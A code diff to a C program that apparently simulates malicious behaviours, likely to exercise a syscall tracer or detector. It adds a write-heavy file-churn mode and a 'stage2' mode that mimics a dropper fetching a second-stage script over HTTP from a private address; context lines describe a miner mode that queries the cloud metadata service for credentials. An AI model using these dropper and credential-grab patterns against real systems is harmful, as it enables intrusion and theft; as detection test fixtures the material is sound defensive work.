@@ -268,6 +268,21 @@ int main(int argc, char **argv) {
         printf("churned=%ld\n", n);
         return 0;
     }
+    if (!strcmp(mode, "churnw")) {
+        /* Write-heavy, the tracer's worst case: a file created, written, closed and
+           deleted each round (two traced calls of every four). */
+        long n = atol(argc > 2 ? argv[2] : "10000");
+        char buf[256];
+        memset(buf, 'x', sizeof buf);
+        for (long i = 0; i < n; i++) {
+            int fd = open("/tmp/churn", O_WRONLY | O_CREAT | O_TRUNC, 0644);
+            if (fd < 0 || write(fd, buf, sizeof buf) < 0) return 4;
+            close(fd);
+            if (unlink("/tmp/churn") != 0) return 5;
+        }
+        printf("churned=%ld\n", n);
+        return 0;
+    }
     if (!strcmp(mode, "net")) {
         /* A miner's network life: resolve a pool by DNS, log in over Stratum, then ask
            the cloud metadata service for credentials. */
@@ -452,6 +467,14 @@ int main(int argc, char **argv) {
         int st = 0;
         waitpid(p, &st, 0);
         printf("worker=%d\n", WEXITSTATUS(st));
+        return 0;
+    }
+    if (!strcmp(mode, "stage2")) {
+        /* A dropper's first step: fetch the second stage over plain HTTP. */
+        char body[1024] = "";
+        if (http_get("10.9.8.7", "/s.sh", body, sizeof body)) { printf("stage2=none\n"); return 0; }
+        body[strcspn(body, "\n")] = 0;
+        printf("stage2=%s\n", body);
         return 0;
     }
     if (!strcmp(mode, "hide2")) {
